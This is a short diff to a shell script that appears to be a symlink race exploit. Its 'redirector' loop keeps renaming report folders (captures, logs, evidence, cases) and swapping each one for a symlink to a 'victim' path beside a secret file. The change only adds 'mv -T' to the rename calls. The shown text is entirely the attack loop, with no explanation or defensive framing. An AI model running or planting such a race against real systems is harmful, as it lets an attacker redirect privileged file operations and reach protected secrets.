@@ -45,10 +45,10 @@ redirector)
     while :; do
         for folder in "$reports/captures" "$reports/logs" "$reports/evidence" "$reports/cases" "$reports"; do
             [ -L "$folder" ] && continue
-            mv "$folder" "$folder.moved" 2>/dev/null && ln -sn "${secret%/*}/victim" "$folder" 2>/dev/null
+            mv -T "$folder" "$folder.moved" 2>/dev/null && ln -sn "${secret%/*}/victim" "$folder" 2>/dev/null
         done
         for folder in $(around d); do
-            mv "$folder" "$folder.moved" 2>/dev/null \
+            mv -T "$folder" "$folder.moved" 2>/dev/null \
                 && ln -sn "${secret%/*}/victim" "$folder" 2>/dev/null
         done
         sleep 0.1
